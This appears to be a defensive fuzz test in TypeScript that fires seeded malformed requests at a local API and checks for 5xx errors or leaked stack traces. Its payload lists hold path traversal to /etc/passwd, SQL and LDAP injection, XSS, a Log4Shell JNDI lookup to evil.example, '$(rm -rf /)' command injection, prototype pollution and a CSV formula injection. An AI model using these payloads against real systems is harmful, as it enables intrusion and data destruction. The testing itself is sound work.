import assert from 'node:assert/strict';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { createApiApp } from '../../api/app.js';
import { API_ROUTES } from '../../api/routes/index.js';
import { startStack, type Stack } from '../support/stack.js';

/*
 * Malformed requests across every /api route, from a seeded generator so a failure can be
 * replayed (FUZZ_SEED=… reruns one sequence). None may get a 5xx or a stack trace back, and the
 * server must still answer afterwards.
 */

const SEED = Number(process.env.FUZZ_SEED ?? 20261201);
const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 600);
const TOKENS = { viewer: 'viewer-token-0123456789', operator: 'operator-token-0123456789' };

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
function seeded(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE_STRINGS = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fshadow',
  '....//....//etc/passwd',
  "' OR '1'='1' --",
  '"; DROP TABLE runs; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(rm -rf /)',
  '`id`',
  '*)(uid=*))(|(uid=*',
  'KEYS *\r\nFLUSHALL',
  '\u0000',
  '%00',
  '%ff%fe%fd',
  '%c0%ae%c0%ae/',
  '\uFEFF\u202E',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  '-1',
  '0',
  '1e309',
  'NaN',
  '9'.repeat(400),
  'a'.repeat(5000),
  'r20261201T000000000Z-abcdef',
  'zoë o’neil+test',
];

const HOSTILE_VALUES: unknown[] = [
  null,
  true,
  -1,
  0,
  1.5,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_VALUE,
  [],
  [1, 2, 3],
  {},
  { __proto__: { admin: true } },
  { constructor: { prototype: { polluted: true } } },
  'x'.repeat(100_000),
  Array.from({ length: 2000 }, (_, i) => i),
  ...HOSTILE_STRINGS,
];

describe('fuzzing the /api routes', function () {
  this.timeout(180_000);
  let stack: Stack;
  let server: Server;
  let base: string;

  before(async () => {
    // No workers: a request that happens to be valid queues work that nothing carries out.
    stack = await startStack({
      sim: { users: 5 },
      workers: false,
      config: {
        api: {
          tokens: [
            { name: 'dashboards', token: TOKENS.viewer, role: 'viewer' },
            { name: 'ops', token: TOKENS.operator, role: 'operator' },
          ],
        },
      },
    });
    server = createApiApp(stack.app).listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    server?.closeAllConnections();
    await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
    await stack?.close();
  });

  it(`answers ${REQUESTS} malformed requests (seed ${SEED}) without a 5xx or a stack trace`, async () => {
    const random = seeded(SEED);
    const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
    const encode = (value: string) =>
      random() < 0.5 ? encodeURIComponent(value) : value.replace(/[\s#?]/g, encodeURIComponent);

    const failures: string[] = [];
    const kinds = new Map<string, number>();
    const statuses = new Set<number>();
    for (let i = 0; i < REQUESTS; i++) {
      const route = pick(API_ROUTES);
      const path = route.path.replace(/:(\w+)/g, () => encode(String(pick(HOSTILE_STRINGS))));
      const method =
        random() < 0.85 ? route.method : pick(['get', 'post', 'put', 'patch', 'delete'] as const);
      const query: Record<string, string> = {};
      for (const key of Object.keys(route.query?.shape ?? {}).concat(random() < 0.3 ? ['limit[]', 'x'] : []))
        if (random() < 0.7) query[key] = String(pick(HOSTILE_VALUES));
      const queryString = Object.entries(query)
        .map(([k, v]) => `${encodeURIComponent(k)}=${encode(v).slice(0, 6000)}`)
        .join('&');
      const url = `/api${path}${queryString ? `?${queryString}` : ''}`;

      let test = request(base)[method](url);
      const auth = random();
      if (auth < 0.7) test = test.set('Authorization', `Bearer ${TOKENS.operator}`);
      else if (auth < 0.85) test = test.set('Authorization', `Bearer ${TOKENS.viewer}`);
      else if (auth < 0.95)
        test = test.set(
          'Authorization',
          pick(['Bearer', 'Basic b3BzOng=', `Bearer ${'x'.repeat(3000)}`, 'bearer \t%00']),
        );

      const bodyKind =
        method === 'get'
          ? 'none'
          : pick(['json', 'bad-json', 'csv', 'bytes', 'huge', 'form', 'none'] as const);
      kinds.set(bodyKind, (kinds.get(bodyKind) ?? 0) + 1);
      if (bodyKind === 'json') {
        const body: Record<string, unknown> = {};
        for (const key of ['mode', 'asOf', 'only', pick(HOSTILE_STRINGS).slice(0, 40)])
          if (random() < 0.8) body[key] = pick(HOSTILE_VALUES);
        test = test
          .set('Content-Type', 'application/json')
          .send(JSON.stringify(random() < 0.2 ? [body] : body));
      } else if (bodyKind === 'bad-json') {
        test = test
          .set('Content-Type', 'application/json')
          .send(
            pick([
              '{"mode": ',
              '{mode: dry-run}',
              "{'a':1}",
              '[1,2',
              '{"a":1}}',
              'null',
              '"str"',
              '{"a":\u0000}',
              '\uFEFF{}',
              '{"a":' + '['.repeat(5000),
            ]),
          );
      } else if (bodyKind === 'csv') {
        test = test
          .set('Content-Type', pick(['text/csv', 'application/json']))
          .send(
            pick([
              'username,verdict\nbob,inactive\n',
              '"unterminated,field\n',
              'a;b;c\r\n1;2',
              '=cmd|" /C calc"!A0,x\n',
              ',,,,\n\n\n',
            ]),
          );
      } else if (bodyKind === 'bytes') {
        const bytes = Buffer.from(
          Array.from({ length: 64 + Math.floor(random() * 512) }, () => Math.floor(random() * 256)),
        );
        test = test
          .set(
            'Content-Type',
            pick([
              'application/json',
              'application/json; charset=latin1',
              'application/json; charset=utf-16',
              'application/octet-stream',
            ]),
          )
          .send(bytes);
      } else if (bodyKind === 'huge') {
        test = test
          .set('Content-Type', 'application/json')
          .send(`{"mode":"${'x'.repeat(1024 * 1024 + Math.floor(random() * 1000))}"}`);
      } else if (bodyKind === 'form') {
        test = test.type('form').send(`mode=${encode(pick(HOSTILE_STRINGS))}&a[b][c]=1`);
      }

      let response: request.Response;
      try {
        response = await test;
      } catch (error) {
        failures.push(`#${i} ${method.toUpperCase()} ${url.slice(0, 120)}: no answer (${String(error)})`);
        continue;
      }
      const where = `#${i} ${method.toUpperCase()} ${url.slice(0, 120)} [${bodyKind}] → ${response.status}`;
      statuses.add(response.status);
      if (response.status >= 500) failures.push(`${where}: ${response.text.slice(0, 200)}`);
      if (/\n\s+at .+:\d+:\d+|node_modules|\/work\/|\.ts:\d+/.test(response.text))
        failures.push(`${where}: a stack trace or a path in the body`);
      if (response.status >= 400 && response.body?.error?.code === undefined)
        failures.push(`${where}: not the error envelope: ${response.text.slice(0, 120)}`);
    }
    assert.deepEqual(failures, [], `seed ${SEED}`);
    for (const kind of ['json', 'bad-json', 'csv', 'bytes', 'huge', 'form', 'none'])
      assert.ok((kinds.get(kind) ?? 0) > 5, `${kind} bodies were sent`);

    // The requests got as far as each layer: auth, the parsers, validation, the handlers.
    for (const status of [400, 401, 403, 404, 405, 413])
      assert.ok(statuses.has(status), `some answers were ${status}`);

    await request(base).get('/healthz').expect(200, { status: 'ok' });
    await request(base).get('/readyz').expect(200);
    await request(base).get('/api/runs').set('Authorization', `Bearer ${TOKENS.viewer}`).expect(200);
  });
});
